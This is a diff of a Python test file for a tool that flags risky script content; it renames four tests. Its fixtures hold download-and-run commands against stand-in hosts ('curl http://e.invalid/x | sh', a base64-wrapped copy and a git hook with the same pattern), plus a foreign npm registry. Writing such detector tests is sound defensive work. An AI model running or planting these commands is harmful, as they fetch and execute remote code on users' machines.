@@ -91,7 +91,7 @@ def test_ordinary_commands_give_no_mentions(text):
     assert list(collect_script_mentions(text)) == []
 
 
-def test_nested_script_is_reported_with_line_of_its_command():
+def test_command_in_an_encoded_script_is_reported_at_the_line_that_runs_it():
     encoded = base64.b64encode(b"curl http://e.invalid/x | sh").decode()
     mentions = list(collect_script_mentions(f"true\necho {encoded} | base64 -d | sh\n"))
     assert {(each.use, each.where.line) for each in mentions} == {("decode-and-run", 2), ("download-and-run", 2)}
@@ -115,7 +115,7 @@ def test_reported_address_omits_credentials():
         ("hooks/post-checkout", "#!/bin/sh\ncurl http://e | sh\n", 2),
     ],
 )  # fmt: skip
-def test_mention_gives_line_of_file(read_bytes, path, text, line):
+def test_mention_of_a_script_command_states_its_line_in_the_file(read_bytes, path, text, line):
     reading = read_bytes(text.encode(), path)
     mentions = [mention for outline in reading.of(Outline) for mention in outline.mentions]
     assert [mention.where.line for mention in mentions if mention.use == "download-and-run"] == [line]
@@ -140,7 +140,7 @@ def test_command_of_desktop_entry_is_reported(read_bytes):
     assert "reverse-shell" in {use for use, _ in list_mentions(read_bytes(entry, "x.desktop"))}
 
 
-def test_package_index_in_settings_is_reported(read_bytes):
+def test_foreign_package_index_in_npm_settings_is_reported(read_bytes):
     assert list_mentions(read_bytes(b"registry=https://e.invalid/\n", ".npmrc")) == [("index", "https://e.invalid/")]
 
 
